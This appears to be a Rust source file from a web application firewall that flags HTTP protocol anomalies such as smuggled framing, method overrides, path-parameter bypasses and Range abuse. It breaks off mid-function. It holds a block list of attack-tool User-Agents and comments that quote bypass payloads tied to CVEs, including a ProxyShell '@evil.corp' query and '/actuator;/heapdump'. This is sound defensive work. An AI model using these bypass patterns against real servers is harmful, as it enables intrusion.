//! Protocol anomalies visible to the WAF: per-request checks on headers (Content-Type syntax,
//! charset, duplicates, Content-Length, body without type, GET with body, restricted headers,
//! method override, Range abuse, User-Agent and Host) and per-input checks (NUL and control
//! characters, invalid percent-encoding, non-UTF-8 text, restricted file extensions).

use super::Sink;
use crate::extract::{Extracted, Input, Kind, label_part, media_type, readable_charset};
use crate::normalise::Variants;
use crate::request::RequestView;
use crate::rules::*;

/// Registered request methods: RFC 9110, PATCH (RFC 5789) and WebDAV (RFC 4918, 3253, 3648,
/// 5323).
const KNOWN_METHODS: &[&str] = &[
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "DELETE",
    "CONNECT",
    "OPTIONS",
    "TRACE",
    "PATCH",
    "PROPFIND",
    "PROPPATCH",
    "MKCOL",
    "COPY",
    "MOVE",
    "LOCK",
    "UNLOCK",
    "SEARCH",
    "REPORT",
    "MKACTIVITY",
    "CHECKOUT",
    "MERGE",
    "ORDERPATCH",
    "ACL",
    "VERSION-CONTROL",
    "MKCALENDAR",
    "BIND",
    "UNBIND",
    "REBIND",
    "LABEL",
    "UPDATE",
    "MKWORKSPACE",
    "BASELINE-CONTROL",
    "UPDATEREDIRECTREF",
];

/// Product names in the User-Agent of vulnerability scanners and attack tools (their default
/// agents; a careful attacker changes it, most automated scans do not).
const SCANNERS: &[&str] = &[
    "acunetix",
    "appscan",
    "arachni",
    "bsqlbf",
    "commix",
    "dirbuster",
    "fimap",
    "gobuster",
    "havij",
    "jaeles",
    "masscan",
    "morfeus",
    "nessus",
    "netsparker",
    "nikto",
    "nmap scripting engine",
    "nuclei",
    "openvas",
    "pangolin",
    "paros",
    "skipfish",
    "sqlmap",
    "sqlninja",
    "w3af",
    "webinspect",
    "wfuzz",
    "whatweb",
    "wpscan",
    "zgrab",
    "zmeu",
];

/// Whether `ua` names a scanner as a word of its own (`sqlmap/1.7`, not `mysqlmapper`): one
/// case-insensitive automaton over [`SCANNERS`], built once (building a few dozen literals
/// cannot fail; if it did, nothing would be flagged).
fn scanner_agent(ua: &[u8]) -> bool {
    static AC: std::sync::OnceLock<Option<aho_corasick::AhoCorasick>> = std::sync::OnceLock::new();
    AC.get_or_init(|| {
        aho_corasick::AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(SCANNERS)
            .ok()
    })
    .as_ref()
    .is_some_and(|ac| {
        ac.find_overlapping_iter(ua).any(|m| {
            let word = |i: Option<usize>| {
                i.and_then(|i| ua.get(i))
                    .is_some_and(u8::is_ascii_alphanumeric)
            };
            !word(m.start().checked_sub(1)) && !word(Some(m.end()))
        })
    })
}

/// File extensions of backups, sources, databases and configuration.
const RESTRICTED_EXTENSIONS: &[&str] = &[
    "asa",
    "asax",
    "ascx",
    "backup",
    "bak",
    "bat",
    "cdx",
    "cer",
    "cfg",
    "cmd",
    "conf",
    "config",
    "csproj",
    "csr",
    "db",
    "dbf",
    "dll",
    "dos",
    "htr",
    "htw",
    "ida",
    "idc",
    "idq",
    "inc",
    "ini",
    "licx",
    "lnk",
    "log",
    "mdb",
    "old",
    "orig",
    "p12",
    "pass",
    "pdb",
    "pem",
    "pfx",
    "pol",
    "printer",
    "pwd",
    "rdb",
    "resources",
    "resx",
    "sav",
    "save",
    "sql",
    "sqlite",
    "swp",
    "sys",
    "tmp",
    "vb",
    "vbproj",
    "vbs",
    "vsdisco",
    "webinfo",
    "xsd",
    "xsx",
];

/// Checks that look at the request as a whole. Returns `(rule, label, excerpt)` triples.
pub(crate) fn request_checks(
    req: &RequestView<'_>,
    x: &Extracted,
    on: &dyn Fn(u32) -> bool,
) -> Vec<(u32, String, String)> {
    let mut out = Vec::new();
    // A finding is written out only for a rule that runs here: most requests trip no rule,
    // and the host check below trips one that runs only from paranoia 2 on every request
    // sent to an IP address.
    let mut add = |rule: u32, label: &str, excerpt: &[u8]| {
        if on(rule) {
            out.push((
                rule,
                label.to_owned(),
                label_part(excerpt).chars().take(24).collect(),
            ));
        }
    };
    // Methods beyond HTTP's registered set (RFC 9110 and the WebDAV family an API gateway may
    // front): which methods a route accepts is the route's `methods`; this catches probes such
    // as `TEST` or `JEFF` wherever the route lets any method through.
    if !KNOWN_METHODS
        .iter()
        .any(|m| m.eq_ignore_ascii_case(req.method))
    {
        add(PROTO_UNKNOWN_METHOD, "method", req.method.as_bytes());
    }
    // `TRACE` (and IIS's `TRACK`) echo the request, its cookies and credentials, back to a
    // script that could not read them (cross-site tracing); `DEBUG` starts ASP.NET's remote
    // debugging. No API serves them.
    if ["TRACE", "TRACK", "DEBUG"]
        .iter()
        .any(|m| m.eq_ignore_ascii_case(req.method))
    {
        add(PROTO_TRACE_METHOD, "method", req.method.as_bytes());
    }
    // A letter or digit encoded twice in the path (`/%2577ebui_wsma_HTTP` is `/webui_…`
    // after two decodings, CVE-2023-20198): no client encodes one even once, and a check on
    // the path decoded once sees another path than the back end that decodes again.
    if memchr::memmem::find_iter(req.path, b"%25").any(|at| {
        let hex = |i: usize| req.path.get(i).and_then(|b| (*b as char).to_digit(16));
        matches!((hex(at + 3), hex(at + 4)), (Some(h), Some(l))
            if { let c = (h * 16 + l) as u8; c.is_ascii_alphanumeric() || b"-._~".contains(&c) })
    }) {
        add(PROTO_DOUBLE_ENCODED, "path", req.path);
    }
    // A path parameter without a value before a further segment (`/actuator;/heapdump`,
    // `/;/admin`, `/forgotPassword;/ProgramExport`): Tomcat and Spring drop `;…` from each
    // segment before routing, while a check on the raw path (Shiro's filters, a proxy's
    // rule on `/actuator/*`) sees another path.
    if memchr::memchr(b';', req.path).is_some() && hidden_segment(req.path) {
        add(PROTO_EMPTY_PATH_PARAMETER, "path", req.path);
    }
    // A path that ends in a path parameter shaped as an extension (`/app/rest/users;.jsp`,
    // `/admin;.css`), in the request's path or in a parameter that takes one (TeamCity's
    // `?jsp=/app/rest/users/id:1/tokens;.jsp`): a filter that lets static or page
    // extensions through without a login sees the extension, the router drops it.
    if let Some(at) = fake_extension(req.path) {
        add(PROTO_EMPTY_PATH_PARAMETER, "path", &req.path[at..]);
    } else if let Some(q) = req.query
        && (memchr::memchr(b';', q).is_some()
            || memchr::memmem::find(q, b"%3b").is_some()
            || memchr::memmem::find(q, b"%3B").is_some())
        && let Some(v) = q
            .split(|&b| b == b'&')
            .filter_map(|p| p.splitn(2, |&b| b == b'=').nth(1))
            .map(|v| crate::normalise::percent_decode(v, true).0)
            .find(|v| v.starts_with(b"/") && fake_extension(v).is_some())
    {
        add(PROTO_EMPTY_PATH_PARAMETER, "query", &v);
    }
    // A query that starts with `@host/` (`/autodiscover/autodiscover.json?@evil.corp/owa/`):
    // a back end that joins its own scheme and host to the path and query reads the host
    // after the `@` as the one to call (Exchange's ProxyShell and ProxyNotShell).
    if let Some(q) = req.query
        && let Some(host) = q.strip_prefix(b"@").or_else(|| {
            q.get(..3)
                .filter(|p| p.eq_ignore_ascii_case(b"%40"))
                .map(|_| &q[3..])
        })
    {
        let name = host
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':'))
            .count();
        if name > 0 && host[..name].contains(&b'.') && host.get(name) == Some(&b'/') {
            add(SSRF_TARGET_CONFUSION, "query", q);
        }
    }
    // `%uFFxx`: full-width forms that IIS folds to ASCII after the WAF decoded the request.
    for (label, raw) in [("path", Some(req.path)), ("query", req.query)] {
        let Some(raw) = raw else { continue };
        if memchr::memchr_iter(b'%', raw).any(|i| {
            raw.get(i..i + 6).is_some_and(|w| {
                w[1].eq_ignore_ascii_case(&b'u')
                    && w[2..4].eq_ignore_ascii_case(b"ff")
                    && w[4..].iter().all(u8::is_ascii_hexdigit)
            })
        }) {
            add(PROTO_FULLWIDTH_ESCAPE, label, raw);
        }
    }
    let has_body = req.body.is_some_and(|b| !b.is_empty());
    // One pass over the headers: what the request-wide checks below need to know, and the
    // findings about single headers, which are added after those (as they always were).
    let mut content_types = 0;
    let mut lengths = 0;
    let mut encodings = 0;
    let mut codings: Vec<&[u8]> = Vec::new();
    let mut authorizations = 0;
    let mut agent = false;
    let mut host = None;
    let mut single: Vec<(u32, String, &[u8])> = Vec::new();
    let mut overrides: Vec<&[u8]> = Vec::new();
    for (name, value) in &req.headers {
        if name.is_empty() || !name.iter().all(|&b| is_tchar(b)) {
            single.push((HS_HEADER_NAME, format!("header:{}", label_part(name)), name));
        }
        let known = Header::of(name);
        // A label is made only for a finding.
        let label = || {
            format!(
                "header:{}",
                String::from_utf8_lossy(name).to_ascii_lowercase()
            )
        };
        match known {
            Header::Other => {}
            Header::ContentType => content_types += 1,
            Header::ContentLength => lengths += 1,
            Header::ContentEncoding => encodings += 1,
            Header::TransferEncoding => codings.push(value),
            Header::UserAgent => agent |= !value.trim_ascii().is_empty(),
            Header::Host => host = host.or(Some(*value)),
            Header::Restricted => single.push((PROTO_RESTRICTED_HEADER, label(), value)),
            Header::MethodOverride => {
                overrides.push(value.trim_ascii());
                single.push((PROTO_METHOD_OVERRIDE, label(), value));
                // A link or an image can make a browser send GET; overridden to DELETE it
                // changes state, and a route allowed only GET lets it through.
                if safe_method_overridden(req.method, value) {
                    single.push((PROTO_SAFE_METHOD_OVERRIDE, label(), value));
                }
            }
            // Next.js reads it to tell its own middleware subrequests apart and skips the
            // middleware (authorisation included) for them (CVE-2025-29927).
            Header::Internal => single.push((PROTO_INTERNAL_HEADER, label(), value)),
            Header::Upgrade => {
                let h2c = value
                    .split(|&b| b == b',')
                    .any(|p| p.trim_ascii().eq_ignore_ascii_case(b"h2c"));
                if h2c {
                    single.push((PROTO_H2C_UPGRADE, label(), value));
                }
            }
            Header::Http2Settings => single.push((PROTO_H2C_UPGRADE, label(), value)),
            // A proxy drops the headers `Connection` names. Naming a credential, a forwarding
            // header or the framing gets them removed behind the gateway's checks, or
            // after the gateway set them.
            Header::Connection => {
                if value
                    .split(|&b| b == b',')
                    .any(|t| end_to_end_header(t.trim_ascii()))
                {
                    single.push((PROTO_HOP_BY_HOP, label(), value));
                }
            }
            // One credential per request: a list (`Basic ..., Bearer ...`) or a second header
            // is read differently by each layer that checks it.
            Header::Authorization => {
                authorizations += 1;
                if authorizations == 2 || names_second_scheme(value) {
                    single.push((PROTO_AUTHORIZATION_LIST, label(), value));
                }
            }
            Header::PathOverride => {
                // Only the path counts: the query is the request's own business.
                let path = value.split(|&b| b == b'?').next().unwrap_or(value);
                if path.trim_ascii() != req.path {
                    single.push((PROTO_PATH_OVERRIDE, label(), value));
                }
            }
            Header::Range { restricted } => {
                if restricted {
                    single.push((PROTO_RESTRICTED_HEADER, label(), value));
                }
                let ranges = value.iter().filter(|&&b| b == b',').count() + 1;
                if ranges > 5 {
                    single.push((PROTO_RANGE, label(), value));
                }
                if !valid_byte_ranges(value) {
                    single.push((PROTO_RANGE_INVALID, label(), value));
                }
                if !value.contains(&b'=') {
                    single.push((PROTO_RANGE_NO_UNIT, label(), value));
                }
            }
        }
    }
    // `take`: with none found above, the headers are not searched again.
    for ct in req.header_values("content-type").take(content_types) {
        if !valid_content_type(ct) {
            add(PROTO_CONTENT_TYPE, "header:content-type", ct);
        }
        let (mt, params) = media_type(ct);
        let charsets: Vec<&String> = params
            .iter()
            .filter(|(k, _)| k == "charset")
            .map(|(_, v)| v)
            .collect();
        if charsets.iter().any(|c| !readable_charset(c)) {
            add(PROTO_CHARSET, "header:content-type", ct);
        }
        let boundaries = params.iter().filter(|(k, _)| k == "boundary").count();
        let smuggled = charsets.len() > 1
            || boundaries > 1
            || (boundaries > 0 && !mt.starts_with("multipart/"))
            || params
                .iter()
                .any(|(_, v)| v.contains(['/', ';', ',']) && v.contains("multipart"));
        if smuggled
            || ct
                .windows(9)
                .filter(|w| w.eq_ignore_ascii_case(b"multipart"))
                .count()
                > 1
        {
            add(HS_CT_BOUNDARY, "header:content-type", ct);
        }
    }
    if content_types > 1 && has_body {
        add(PROTO_MULTI_CONTENT_TYPE, "header:content-type", b"");
    }
    let mut values = req.header_values("content-length").take(lengths);
    if let Some(first) = values.next()
        && std::iter::once(first).chain(values).any(|l| {
            l.is_empty() || !l.iter().all(u8::is_ascii_digit) || l.len() > 18 || l != first
        })
    {
        add(PROTO_CONTENT_LENGTH, "header:content-length", first);
    }
    // The framing two hops may read differently (request smuggling): a coding on a request
    // that has no body to frame, or any coding but one plain `chunked` (`\tchunked`,
    // `chunked, identity`, `xchunked`), which one parser honours and the next ignores. A
    // length beside the coding is the server's to settle (RFC 9112 drops the length, and the
    // gateway's strict framing refuses the request), as CRS's own tests expect.
    if let Some(&first) = codings.first()
        && (codings.len() > 1
            || !first.trim_ascii().eq_ignore_ascii_case(b"chunked")
            || first.first().is_some_and(|b| b.is_ascii_whitespace())
            || req.method.eq_ignore_ascii_case("GET")
            || req.method.eq_ignore_ascii_case("HEAD"))
    {
        add(PROTO_FRAMING, "header:transfer-encoding", first);
    }
    if has_body && content_types == 0 {
        add(PROTO_BODY_NO_CONTENT_TYPE, "body", b"");
    }
    if has_body
        && (req.method.eq_ignore_ascii_case("GET") || req.method.eq_ignore_ascii_case("HEAD"))
    {
        add(PROTO_GET_BODY, "body", b"");
    }
    if !agent {
        add(PROTO_MISSING_UA, "header:user-agent", b"");
    }
    // A scanner's agent is found per input (`input_checks`), where a remembered agent costs
    // nothing.
    match host {
        None => add(PROTO_HOST, "header:host", b""),
        Some(h) if h.trim_ascii().is_empty() => add(PROTO_HOST, "header:host", b""),
        Some(h) => {
            // Parsed only where the IP-literal rule runs (from paranoia 2).
            if on(PROTO_HOST) && ip_literal_host(h) {
                add(PROTO_HOST, "header:host", h);
            }
            if !valid_host(h) {
                add(PROTO_HOST_INVALID, "header:host", h);
            }
        }
    }
    // A charset in Accept is checked per input (`input_checks`).
    // Compressed request bodies cannot be inspected.
    for ce in req.header_values("content-encoding").take(encodings) {
        if !ce.trim_ascii().eq_ignore_ascii_case(b"identity") {
            add(PROTO_RESTRICTED_HEADER, "header:content-encoding", ce);
        }
    }
    for (rule, label, value) in single {
        add(rule, &label, value);
    }
    if x.method_param {
        add(PROTO_METHOD_OVERRIDE, "query:_method", b"_method");
        overrides.extend(x.method_overrides.iter().map(Vec::as_slice));
    }
    // Two overrides that disagree (`X-HTTP-Method-Override: PUT` with `_method=DELETE`): each
    // framework and proxy picks its own, so the method checked is not the one that runs.
    if let Some((first, rest)) = overrides.split_first()
        && rest.iter().any(|m| !m.eq_ignore_ascii_case(first))
    {
        add(PROTO_METHOD_OVERRIDE_CONFLICT, "method", first);
    }
    // A link or a cached GET told to delete or write (`GET /users/17?_method=DELETE`,
    // `X-HTTP-Method-Override: PUT` on a GET): frameworks honour overrides on POST only, so
    // this is a forged request or a cache poisoning attempt, never a client's own.
    if (req.method.eq_ignore_ascii_case("GET") || req.method.eq_ignore_ascii_case("HEAD"))
        && let Some(m) = overrides.iter().find(|m| {
            [&b"DELETE"[..], b"PUT", b"PATCH", b"POST"]
                .iter()
                .any(|w| m.eq_ignore_ascii_case(w))
        })
    {
        add(PROTO_METHOD_OVERRIDE_SAFE, "method", m);
    }

    // A session id handed over in a parameter by another site (or, for the names of
    // `SESSION_PARAMS`, with no referer at all).
    let session_param = x.session_param.as_ref();
    if let Some(p) = session_param {
        let host = req
            .first_header("host")
            .map(|h| String::from_utf8_lossy(h).to_ascii_lowercase());
        let foreign = match req.first_header("referer") {
            None => p.2,
            Some(r) => {
                let r = String::from_utf8_lossy(r).to_ascii_lowercase();
                let after = r.split_once("://").map_or(r.as_str(), |(_, rest)| rest);
                let rhost = after.split(['/', '?', '#']).next().unwrap_or("");
                host.as_deref().is_none_or(|h| rhost != h)
            }
        };
        if foreign {
            add(PROTO_SESSION_FIXATION, &p.0, &p.1);
        }
    }
    // A redirect parameter of the query or a form whose URL only the whole request shows
    // to be disguised (one finding is enough).
    if on(SSRF_OPEN_REDIRECT) {
        const FORM: &[u8] = b"application/x-www-form-urlencoded";
        let form = req.body.filter(|_| {
            req.first_header("content-type").is_some_and(|ct| {
                let ct = ct.trim_ascii_start();
                ct.get(..FORM.len())
                    .is_some_and(|t| t.eq_ignore_ascii_case(FORM))
            })
        });
        let mut host = None;
        if let Some((label, value)) =
            [(req.query, "query"), (form, "form")]
                .into_iter()
                .find_map(|(pairs, prefix)| {
                    // Read only when a pair may hold a URL (the pass below returns at once else).
                    let pairs = pairs.filter(|p| memchr::memchr2(b'%', b':', p).is_some())?;
                    let host = *host.get_or_insert_with(|| req.first_header("host"));
                    super::url::disguised_redirect(pairs, prefix, host)
                })
        {
            add(SSRF_OPEN_REDIRECT, &label, &value);
        }
    }
    out
}

/// Whether a `Host` value names an IP address (with or without a port) rather than a name.
fn ip_literal_host(h: &[u8]) -> bool {
    let host = String::from_utf8_lossy(h);
    let host = host.trim();
    let name = host
        .rsplit_once(':')
        .filter(|(_, p)| p.bytes().all(|b| b.is_ascii_digit()))
        .map_or(host, |(n, _)| n);
    name.parse::<std::net::IpAddr>().is_ok() || name.starts_with('[')
}

/// `host [":" port]` where host is a DNS-style name (letters, digits, `-`, `_`, `.`), an IPv4
/// address or a bracketed IPv6 literal. Percent escapes, NUL, spaces and other punctuation are
/// not hosts any router or certificate can match; they are there to confuse a parser.
fn valid_host(h: &[u8]) -> bool {
    let h = h.trim_ascii();
    let (name, port) = if h.first() == Some(&b'[') {
        let Some(end) = memchr::memchr(b']', h) else {
            return false;
        };
        let inner = &h[1..end];
        if inner.is_empty()
            || !inner
                .iter()
                .all(|&b| b.is_ascii_hexdigit() || b == b':' || b == b'.')
        {
            return false;
        }
        (&b"ipv6"[..], &h[end + 1..])
    } else {
        match memchr::memrchr(b':', h) {
            Some(i) => (&h[..i], &h[i..]),
            None => (h, &b""[..]),
        }
    };
    let port_ok = port.is_empty()
        || (port[0] == b':' && port.len() <= 6 && port[1..].iter().all(u8::is_ascii_digit));
    port_ok
        && !name.is_empty()
        && name
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
}

/// `bytes=` followed by ranges `a-b`, `a-` or `-n` with `a <= b` (RFC 9110 section 14.1.1).
/// Other units are left alone; a byte range list that does not parse, or a range whose last
/// byte comes before its first, is refused (the ranges Apache Killer style attacks send).
/// Without a unit only reversed pairs count.
fn valid_byte_ranges(value: &[u8]) -> bool {
    let text = String::from_utf8_lossy(value);
    let Some((unit, list)) = text.trim().split_once('=') else {
        // No unit: not a range any server honours; only a reversed pair is worth a look.
        return text
            .split(',')
            .filter_map(|r| r.trim().split_once('-'))
            .all(
                |(a, b)| match (a.trim().parse::<u64>(), b.trim().parse::<u64>()) {
                    (Ok(a), Ok(b)) => a <= b,
                    _ => true,
                },
            );
    };
    if !unit.trim().eq_ignore_ascii_case("bytes") {
        return true;
    }
    let number = |s: &str| {
        let s = s.trim();
        (!s.is_empty() && s.len() <= 19 && s.bytes().all(|b| b.is_ascii_digit()))
            .then(|| s.parse::<u64>().ok())
            .flatten()
    };
    // Each range from its start (suffix ranges, counted from the end, are left out).
    let mut spans: Vec<(u64, u64)> = Vec::new();
    let each_valid = list.split(',').all(|r| {
        let r = r.trim();
        if r.is_empty() {
            // Empty list elements are allowed by the list syntax.
            return true;
        }
        match r.split_once('-') {
            Some(("", last)) => number(last).is_some(),
            Some((first, "")) => number(first)
                .inspect(|&a| spans.push((a, u64::MAX)))
                .is_some(),
            Some((first, last)) => match (number(first), number(last)) {
                (Some(a), Some(b)) if a <= b => {
                    spans.push((a, b));
                    true
                }
                _ => false,
            },
            None => false,
        }
    });
    // Three or more ranges that overlap ask for the same bytes again and again: the
    // amplification of CVE-2011-3192. Clients that read several parts ask for disjoint ones.
    spans.sort_unstable();
    each_valid && (spans.len() < 3 || spans.windows(2).all(|w| w[0].1 < w[1].0))
}

/// RFC 9110 `tchar`, by table: every header name's every byte is looked up.
fn is_tchar(b: u8) -> bool {
    const TCHAR: [bool; 256] = {
        let mut t = [false; 256];
        let mut i = 0;
        while i < 256 {
            t[i] = (i as u8).is_ascii_alphanumeric();
            i += 1;
        }
        let symbols = b"!#$%&'*+-.^_`|~";
        let mut j = 0;
        while j < symbols.len() {
            t[symbols[j] as usize] = true;
            j += 1;
        }
        t
    };
    TCHAR[usize::from(b)]
}

/// The header names [`request_checks`] looks at, told apart without case.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Header {
    ContentType,
    ContentLength,
    ContentEncoding,
    TransferEncoding,
    UserAgent,
    Host,
    /// A header that has no business reaching an application: `Content-Range` (in a
    /// request), `If`, `Lock-Token` and `Proxy` (httpoxy).
    Restricted,
    MethodOverride,
    /// `Upgrade` and `HTTP2-Settings`: an h2c upgrade asks the next hop to switch the
    /// connection to HTTP/2 that nothing in front inspects.
    Upgrade,
    Http2Settings,
    /// `X-Original-URL` and `X-Rewrite-URL`, which some frameworks route by.
    PathOverride,
    /// A header a framework sets for its own internal hops (`X-Middleware-Subrequest`).
    Internal,
    /// `Range` or `Request-Range` (which is also restricted).
    Range {
        restricted: bool,
    },
    Connection,
    Authorization,
    Other,
}

impl Header {
    fn of(name: &[u8]) -> Self {
        let is = |n: &str| name.eq_ignore_ascii_case(n.as_bytes());
        // By length first: most names are ruled out without a comparison.
        match name.len() {
            2 if is("if") => Self::Restricted,
            4 if is("host") => Self::Host,
            5 if is("range") => Self::Range { restricted: false },
            5 if is("proxy") => Self::Restricted,
            7 if is("upgrade") => Self::Upgrade,
            13 if is("x-rewrite-url") => Self::PathOverride,
            14 if is("http2-settings") => Self::Http2Settings,
            14 if is("x-original-url") => Self::PathOverride,
            10 if is("user-agent") => Self::UserAgent,
            10 if is("connection") => Self::Connection,
            13 if is("authorization") => Self::Authorization,
            10 if is("lock-token") => Self::Restricted,
            12 if is("content-type") => Self::ContentType,
            13 if is("content-range") => Self::Restricted,
            13 if is("request-range") => Self::Range { restricted: true },
            13 if is("x-http-method") => Self::MethodOverride,
            14 if is("content-length") => Self::ContentLength,
            16 if is("content-encoding") => Self::ContentEncoding,
            17 if is("x-method-override") => Self::MethodOverride,
            17 if is("transfer-encoding") => Self::TransferEncoding,
            22 if is("x-http-method-override") => Self::MethodOverride,
            23 if is("x-middleware-subrequest") => Self::Internal,
            _ => Self::Other,
        }
    }
}

/// A header that a `Connection` token must not name: credentials, client addresses and
/// forwarding headers, and the request's framing and routing.
fn end_to_end_header(token: &[u8]) -> bool {
    // Beside the credential, framing, host and path-override headers `Header` knows.
    const NAMES: [&str; 6] = [
        "cookie",
        "forwarded",
        "origin",
        "proxy-authorization",
        "x-api-key",
        "x-request-id",
    ];
    const PREFIXES: [&str; 4] = ["x-forwarded-", "x-auth", "x-csrf", "x-xsrf"];
    if matches!(
        Header::of(token),
        Header::Authorization
            | Header::ContentLength
            | Header::ContentType
            | Header::Host
            | Header::PathOverride
    ) {
        return true;
    }
    // Lower-cased on the stack: a `Connection` header comes with most requests.
    let mut buf = [0u8; 64];
    let Some(lower) = buf.get_mut(..token.len()) else {
        return false;
    };
    lower.copy_from_slice(token);
    lower.make_ascii_lowercase();
    // Borrowed unless the token is not UTF-8.
    let name = String::from_utf8_lossy(lower);
    NAMES.contains(&&*name)
        || PREFIXES.iter().any(|p| name.starts_with(p))
        || client_address_header(&name)
        || host_override_header(&name)
}

/// An `Authorization` value with a second credential after a comma: a comma, then an
/// authentication scheme's name and a space (`Basic YWRt..., Bearer abc`). Parameters of one
/// scheme (`Digest username="a", realm="b"`) are names followed by `=`; a comma inside a
/// parameter's quoted value (`realm="a, Bearer b"`) separates nothing. A quote anywhere else,
/// or one never closed, hides nothing.
fn names_second_scheme(value: &[u8]) -> bool {
    second_scheme(value, true).unwrap_or_else(|| second_scheme(value, false).unwrap_or(false))
}

/// [`names_second_scheme`], reading quoted parameter values when `quotes` is set; `None` when
/// a quoted value is never closed.
fn second_scheme(value: &[u8], quotes: bool) -> Option<bool> {
    const SCHEMES: [&str; 7] = [
        "basic",
        "bearer",
        "digest",
        "negotiate",
        "ntlm",
        "token",
        "aws4-hmac-sha256",
    ];
    let (mut quoted, mut escaped, mut after_equals) = (false, false, false);
    for (i, &b) in value.iter().enumerate() {
        if quoted {
            match b {
                _ if escaped => escaped = false,
                b'\\' => escaped = true,
                b'"' => quoted = false,
                _ => {}
            }
            continue;
        }
        match b {
            b'"' if quotes && after_equals => quoted = true,
            b',' => {
                let rest = value[i + 1..].trim_ascii_start();
                let scheme = SCHEMES.iter().any(|s| {
                    rest.get(..=s.len()).is_some_and(|w| {
                        w[..s.len()].eq_ignore_ascii_case(s.as_bytes())
                            && matches!(w[s.len()], b' ' | b'\t')
                    })
                });
                if scheme {
                    return Some(true);
                }
            }
            _ => {}
        }
        if !matches!(b, b' ' | b'\t') {
            after_equals = b == b'=';
        }
    }
    (!quoted).then_some(false)
}

/// A GET, HEAD or OPTIONS request whose method override names another method.
fn safe_method_overridden(method: &str, wanted: &[u8]) -> bool {
    let wanted = wanted.trim_ascii();
    matches!(method, "GET" | "HEAD" | "OPTIONS")
        && !wanted.is_empty()
        && !wanted.eq_ignore_ascii_case(method.as_bytes())
}

/// RFC 9110 media type: `type/subtype *( OWS ";" OWS token "=" ( token / quoted-string ) )`.
fn valid_content_type(ct: &[u8]) -> bool {
    let mut i = 0;
    let token = |i: &mut usize| {
        let s = *i;
        while *i < ct.len() && is_tchar(ct[*i]) {
            *i += 1;
        }
        *i > s
    };
    let ows = |i: &mut usize| {
        while *i < ct.len() && (ct[*i] == b' ' || ct[*i] == b'\t') {
            *i += 1;
        }
    };
    if !token(&mut i) || ct.get(i) != Some(&b'/') {
        return false;
    }
    i += 1;
    if !token(&mut i) {
        return false;
    }
    loop {
        ows(&mut i);
        if i == ct.len() {
            return true;
        }
        if ct[i] != b';' {
            return false;
        }
        i += 1;
        ows(&mut i);
        if i == ct.len() {
            // A trailing `;` is tolerated by every parser.
            return true;
        }
        if !token(&mut i) || ct.get(i) != Some(&b'=') {
            return false;
        }
        i += 1;
        if ct.get(i) == Some(&b'"') {
            i += 1;
            loop {
                match ct.get(i) {
                    None => return false,
                    Some(b'"') => break,
                    Some(b'\\') => i += 2,
                    Some(b'\r' | b'\n' | 0) => return false,
                    Some(_) => i += 1,
                }
            }
            i += 1;
        } else {
            // Unquoted values: be as lenient as common parsers (boundaries with `:` or `(`).
            let s = i;
            while i < ct.len() && ct[i] > b' ' && ct[i] != b';' && ct[i] != b'"' && ct[i] != 0x7f {
                i += 1;
            }
            if i == s {
                return false;
            }
        }
    }
}

/// Whether `value` of the header `name` (lower case) is not what the header carries. Headers
/// that pass a client's address or the host it asked for (`X-Forwarded-For`, `X-Real-IP`,
/// `X-Forwarded-Host`, RFC 7239 `Forwarded`, ...) hold addresses, host names, ports and, in
/// `Forwarded`, `key=value` pairs, and `Origin` a scheme, host and port; applications log,
/// store and reflect them (CORS answers echo `Origin`) as trusted text, so
/// a quote, bracket of another kind, `$`, `<` or `;` in one is an injection, not an address.
/// Other headers are not judged here (`false`).
fn forwarding_value_invalid(name: &str, value: &[u8]) -> bool {
    // Addresses and host names in a list, with `unknown` and obfuscated identifiers (`_a1`).
    let address = |c: u8| c.is_ascii_alphanumeric() || b".:[]-_, \t".contains(&c);
    let allowed: &dyn Fn(u8) -> bool = match name {
        _ if client_address_header(name) || host_override_header(name) => &address,
        "x-forwarded-proto" | "x-forwarded-scheme" | "x-forwarded-port" => {
            &|c: u8| c.is_ascii_alphanumeric() || b", \t".contains(&c)
        }
        // RFC 7239: `for=192.0.2.60;proto=http;by=203.0.113.43`, `for="[2001:db8::1]:4711"`.
        "forwarded" => &|c: u8| address(c) || b"=;\"".contains(&c),
        // An origin: `https://app.example.com:8443`, or `null`.
        "origin" => &|c: u8| c.is_ascii_alphanumeric() || b".:/[]-_".contains(&c),
        _ => return false,
    };
    !value.iter().all(|&c| allowed(c))
}

/// Headers in which a proxy reports the client's address.
fn client_address_header(name: &str) -> bool {
    matches!(
        name,
        "x-forwarded-for"
            | "x-real-ip"
            | "x-client-ip"
            | "true-client-ip"
            | "x-originating-ip"
            | "x-remote-ip"
            | "x-remote-addr"
            | "x-cluster-client-ip"
            | "cf-connecting-ip"
    )
}

/// Headers in which a proxy reports the host the client asked for, which applications build
/// their own absolute links from.
pub(super) fn host_override_header(name: &str) -> bool {
    matches!(
        name,
        "x-forwarded-host" | "x-forwarded-server" | "x-host" | "x-original-host"
    )
}

/// Whether a segment of `path` other than the last carries a path parameter without a
/// value (`;` or `;x` up to its `/`, the `/` encoded or not). JAX-RS matrix parameters
/// (`/products;color=red/reviews`) and session ids have one, and pass: so does
/// `/actuator;a=1/heapdump`, which only the router's own rules can tell apart.
fn hidden_segment(path: &[u8]) -> bool {
    let lower = String::from_utf8_lossy(path)
        .to_ascii_lowercase()
        .replace("%2f", "/");
    let mut segments = lower.split('/').peekable();
    while let Some(segment) = segments.next() {
        if segments.peek().is_none() {
            break;
        }
        if let Some((_, params)) = segment.split_once(';')
            && params.split(';').any(|p| !p.contains('='))
        {
            return true;
        }
    }
    false
}

/// Where a path's last segment has a path parameter that ends in a page's or a static
/// file's extension (`;.jsp`, `;x.css`), if it does: the `;` of the parameter.
fn fake_extension(path: &[u8]) -> Option<usize> {
    const EXTENSIONS: &[&[u8]] = &[
        b"action", b"css", b"do", b"gif", b"htm", b"html", b"ico", b"jpg", b"js", b"jsp", b"jspx",
        b"png", b"svg", b"woff", b"woff2",
    ];
    let last = memchr::memrchr(b'/', path).map_or(0, |i| i + 1);
    let at = last + memchr::memchr(b';', &path[last..])?;
    let param = &path[at + 1..];
    let dot = memchr::memrchr(b'.', param)?;
    let ext = param[dot + 1..].to_ascii_lowercase();
    (!param.contains(&b'=') && EXTENSIONS.contains(&ext.as_slice())).then_some(at)
}

/// Whether a `Forwarded` value (RFC 7239) names a loopback address in a `for=` parameter.
fn forwarded_loopback(value: &str) -> bool {
